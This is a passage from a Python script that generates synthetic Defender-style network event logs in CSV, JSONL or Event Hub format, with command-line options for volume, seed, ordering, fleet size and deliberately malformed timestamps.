                    ts = ["", "not-a-time", "2024-13-45T25:61:00Z", "2024-02-30T10:00:00.1234567Z"][rng.randrange(4)]
                dname, devid, lip, is_srv, mgroup = devices[v]
                r3 = rng.random()
                if is_srv and r3 < 0.02 and sp is None:
                    dname = [dname.lower(), dname.upper(), dname.split(".")[0]][int(r3 * 150) % 3]
                # action-specific shape
                if act == "ListeningConnectionCreated":
                    ip, rport, iptype, urls = ("" if r3 < 0.5 else "0.0.0.0"), "", "", ()
                    lport = str(rng.choice([80, 443, 445, 3389, 5985, 1433, 135]))
                elif act == "InboundConnectionAccepted":
                    lport = rport if rport else "443"
                    rport = str(rng.randrange(49152, 65536))
                else:
                    lport = str(rng.randrange(49152, 65536))
                # url
                r4 = rng.random()
                if forced_url is not None:
                    url_csv, url_json = csv_field(forced_url), json_str(forced_url)
                elif r4 < 0.5 or not urls:
                    url_csv, url_json = "", '""'
                else:
                    u = int((r4 - 0.5) * 2 * len(urls)) % len(urls)
                    url_csv, url_json = f.dest_url_csv[d][u], f.dest_url_json[d][u]
                proto = "Tcp" if rport not in ("53", "123", "67", "5353", "5355") else "Udp"
                liptype = "Private"
                if ip.startswith("::1") or ip.startswith("127."):
                    lip2 = ip
                    liptype = "Loopback"
                else:
                    lip2 = lip
                seg_a, cmd_csv, cmd_json, seg_c = procs[pi[k]]
                acct = accts[ai[k]]
                r5 = rng.random()
                if r5 < 0.0005:
                    cmdc, cmdj = f.multi_csv, f.multi_json
                else:
                    c = int(r5 * 1000) % len(cmd_csv)
                    cmdc, cmdj = cmd_csv[c], cmd_json[c]
                pid = str(rng.randrange(4, 40000) & ~3)
                ppid = str(rng.randrange(4, 40000) & ~3) if r5 < 0.98 else ""
                ctime = tf.fmt7(t - rng.randrange(DAY * 3))
                pctime = tf.fmt7(t - DAY * 3 - rng.randrange(DAY * 20))
                report = str(rng.randrange(1, 2_000_000))
                addl = int(r5 * 7919) % len(ADDITIONAL)
                sess = "" if r4 < 0.1 else str(int(r4 * 100) % 5)
                remote = r4 > 0.985
                isrem = "true" if remote else "false"
                rsdev = ("WKS-%d" % (int(r4 * 1e6) % 97)) if remote else ""
                rsip = ("192.168.50.%d" % (int(r4 * 1e6) % 250 + 1)) if remote else ""
                appg = "" if r5 > 0.002 else "3f2a1c0e-7d6b-4a59-8e41-b2c9d0e1f234"
                if is_csv:
                    out.append(",".join((
                        ts, devid, dname, act, ip, rport, url_csv, lip2, lport, proto, liptype, iptype,
                        seg_a.csv, pid, cmdc, ctime, seg_c.csv, ppid, pctime, acct.csv, report, appg,
                        f.addl_csv[addl], sess, isrem, rsdev, rsip)))
                else:
                    q = '"'
                    obj = "".join((
                        '{"Timestamp":"', ts, '","DeviceId":"', devid, '","DeviceName":', json_str(dname),
                        ',"ActionType":', json_str(act), ',"RemoteIP":', json_str(ip),
                        ',"RemotePort":', rport if rport else '""', ',"RemoteUrl":', url_json,
                        ',"LocalIP":"', lip2, '","LocalPort":', lport if lport else '""',
                        ',"Protocol":"', proto, '","LocalIPType":"', liptype, '","RemoteIPType":', json_str(iptype),
                        ",", seg_a.json, ',"InitiatingProcessId":', pid, ',"InitiatingProcessCommandLine":', cmdj,
                        ',"InitiatingProcessCreationTime":"', ctime, q, ",", seg_c.json,
                        ',"InitiatingProcessParentId":', ppid if ppid else '""',
                        ',"InitiatingProcessParentCreationTime":"', pctime, q, ",", acct.json,
                        ',"ReportId":', report, ',"AppGuardContainerId":"', appg, '","AdditionalFields":',
                        f.addl_json[addl], ',"InitiatingProcessSessionId":', sess if sess else '""',
                        ',"IsInitiatingProcessRemoteSession":"', isrem,
                        '","InitiatingProcessRemoteSessionDeviceName":"', rsdev,
                        '","InitiatingProcessRemoteSessionIP":"', rsip, '"'))
                    if fmt == "jsonl":
                        out.append(obj + "}")
                    else:
                        env_t = tf.fmt7(t + xrng.randrange(1 * TICKS_PER_SECOND, 300 * TICKS_PER_SECOND))
                        out.append("".join((
                            '{"time":"', env_t, '","tenantId":"', tenant,
                            '","operationName":"Publish","category":"AdvancedHunting-DeviceNetworkEvents",'
                            '"properties":', obj, ',"MachineGroup":', f.dev_json[v][3], "}}")))
            pos += m
            yield out


def parse_size(s):
    s = s.strip().upper()
    mult = 1
    if s and s[-1] in "KMG":
        mult = {"K": 1 << 10, "M": 1 << 20, "G": 1 << 30}[s[-1]]
        s = s[:-1]
    return int(float(s) * mult)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--format", choices=["csv", "jsonl", "streaming", "eventhub"], default="csv")
    g = ap.add_mutually_exclusive_group()
    g.add_argument("--rows", type=int)
    g.add_argument("--size")
    ap.add_argument("--seed", default="1")
    ap.add_argument("--end", default="2024-05-31T12:00:00Z")
    ap.add_argument("--days", type=float, default=40)
    ap.add_argument("--order", choices=["asc", "desc", "random"], default="asc")
    ap.add_argument("--newline", choices=["lf", "crlf"], default="lf")
    ap.add_argument("--bom", action="store_true")
    ap.add_argument("--servers", type=int, default=8)
    ap.add_argument("--workstations", type=int, default=24)
    ap.add_argument("--out")
    ap.add_argument("--print-servers")
    ap.add_argument("--zipf", type=float, default=1.07,
                    help="exponent of the destinations' Zipf law (higher: a fleet talking to fewer places)")
    ap.add_argument("--dirty", type=float, default=0.0,
                    help="fraction of rows with an empty or unparseable Timestamp (default 0)")
    a = ap.parse_args()
    if a.servers < 0 or a.workstations < 0 or a.servers + a.workstations == 0:
        ap.error("need at least one device")
    nl = "\n" if a.newline == "lf" else "\r\n"
    gen = Generator(a)
    if a.print_servers:
        with open(a.print_servers, "w", encoding="utf-8", newline="\n") as fp:
            for s in gen.fleet.servers:
                fp.write(s + "\n")
    if a.rows is not None:
        n = a.rows
    else:
        target = parse_size(a.size or "10M")
        # measure the average rendered row size on a sample of the same shape
        sample = 0
        cnt = 0
        for batch in Generator(a).events(2000):
            sample += sum(len(x.encode("utf-8")) + len(nl) for x in batch)
            cnt += len(batch)
        avg = sample / max(cnt, 1)
        if a.format == "eventhub":
            avg -= 12.0 * len(nl) / 25  # records share lines
        n = max(1, int(target / avg))
    fp = open(a.out, "wb") if a.out else sys.stdout.buffer
    try:
        if a.bom:
            fp.write(b"\xef\xbb\xbf")
        if a.format == "csv":
            fp.write((",".join(COLUMNS) + nl).encode())
        if a.format == "eventhub":
            xr = random.Random("hub:%s" % a.seed)
            pending = []
            for batch in gen.events(n):
                pending.extend(batch)
                lines = []
                while len(pending) >= 50:
                    k = xr.randint(1, 50)
                    lines.append('{"records":[' + ",".join(pending[:k]) + "]}" + nl)
                    del pending[:k]
                fp.write("".join(lines).encode("utf-8"))
            lines = []
            while pending:
                k = xr.randint(1, 50)
                lines.append('{"records":[' + ",".join(pending[:k]) + "]}" + nl)
                del pending[:k]
            fp.write("".join(lines).encode("utf-8"))
        else:
            for batch in gen.events(n):
                batch.append("")
                fp.write(nl.join(batch).encode("utf-8"))
    finally:
        if a.out:
            fp.close()
        else:
            fp.flush()


if __name__ == "__main__":
    main()
